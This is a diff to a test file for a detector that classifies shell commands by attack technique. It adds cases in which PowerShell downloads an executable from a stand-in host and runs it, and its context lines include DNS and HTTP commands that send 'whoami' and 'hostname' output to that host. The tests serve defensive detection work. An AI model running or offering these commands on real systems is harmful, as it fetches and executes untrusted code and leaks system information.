@@ -10,6 +10,20 @@ describe('shell command techniques', () => {
       'download-execute',
     );
   });
+  it('analyses the script given to PowerShell (download to a file, then run it)', () => {
+    expect(
+      ids(
+        'powershell Invoke-WebRequest -Uri "https://x.invalid/a.exe" -OutFile "~/W.exe"; Invoke-Expression "~/W.exe"',
+      ),
+    ).toContain('download-execute');
+    expect(
+      ids(
+        'powershell -NoProfile -ExecutionPolicy Bypass -Command "iwr https://x.invalid/a.exe -OutFile a.exe; Start-Process a.exe"',
+      ),
+    ).toContain('download-execute');
+    expect(ids('powershell -NoProfile -Command Get-ChildItem')).toEqual([]);
+    expect(ids('curl -o a.tgz https://x.invalid/a.tgz && tar xzf a.tgz')).not.toContain('download-execute');
+  });
   it('recognises DNS/HTTP exfiltration of command output', () => {
     expect(ids('nslookup `whoami`.x.invalid')).toContain('exfil-command-output');
     expect(ids('curl https://x.invalid/$(hostname)')).toContain('exfil-command-output');
